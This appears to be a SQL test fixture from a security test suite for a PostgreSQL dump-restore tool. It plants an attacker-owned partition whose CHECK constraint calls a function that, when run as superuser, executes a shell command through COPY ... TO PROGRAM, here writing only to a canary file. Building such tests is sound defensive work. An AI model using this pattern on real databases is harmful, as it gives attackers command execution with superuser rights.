-- The bound of a partition has the server of a rehearsal evaluate functions of the attacker's, as whom it
-- restores the dump.
-- setting: behind
-- victims: owner superuser-as-owner
-- verbs: rehearse
-- by hand: ALTER TABLE mallory.parent DETACH PARTITION mallory.part; ALTER TABLE mallory.parent ATTACH PARTITION mallory.part FOR VALUES IN (1)
-- exit rehearse: 0 7

CREATE FUNCTION mallory.pwn() RETURNS void LANGUAGE plpgsql AS $$BEGIN
  IF current_setting('is_superuser') = 'on' THEN COPY (SELECT current_user) TO PROGRAM 'cat > @CANARY@'; END IF;
END$$;
CREATE FUNCTION mallory.evil(i int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$BEGIN
  PERFORM mallory.pwn(); RETURN true; END$$;
CREATE TABLE mallory.parent (a int) PARTITION BY LIST (a);
CREATE TABLE mallory.part PARTITION OF mallory.parent (CONSTRAINT c CHECK (mallory.evil(1))) FOR VALUES IN (1);
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
GRANT SELECT ON ALL TABLES IN SCHEMA mallory TO PUBLIC;
